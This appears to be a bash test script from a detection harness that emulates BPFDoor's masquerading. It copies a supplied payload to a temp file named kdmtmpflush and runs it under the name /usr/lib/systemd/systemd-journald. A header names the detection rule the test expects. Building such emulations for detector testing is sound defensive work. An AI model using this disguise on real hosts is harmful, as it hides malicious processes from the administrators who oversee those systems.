#!/bin/bash
# technique: T1036.005 Masquerading: Match Legitimate Name or Location; T1036.011 Masquerading: Overwrite Process Arguments
# reproduces: BPFDoor (PwC/Elastic, 2022) copies itself to a temp file (/dev/shm/kdmtmpflush) and runs under the name of a common daemon, e.g. "/usr/lib/systemd/systemd-journald", "dbus-daemon --system"
# expect: masquerade-process-name ^systemd-journald$
# exec-borne: yes
#
# The payload is copied to a temp file and started with the daemon's full
# path as argv[0]; that path does not lead to the program that runs.
set -u

workdir="${BW_ATTACK_TMP:?}/runtime"
mkdir -p "$workdir"
trap 'rm -rf "$workdir"' EXIT

cp "${BW_ATTACK_PAYLOAD:?}" "$workdir/kdmtmpflush"
chmod +x "$workdir/kdmtmpflush"

( exec -a /usr/lib/systemd/systemd-journald "$workdir/kdmtmpflush" --init )
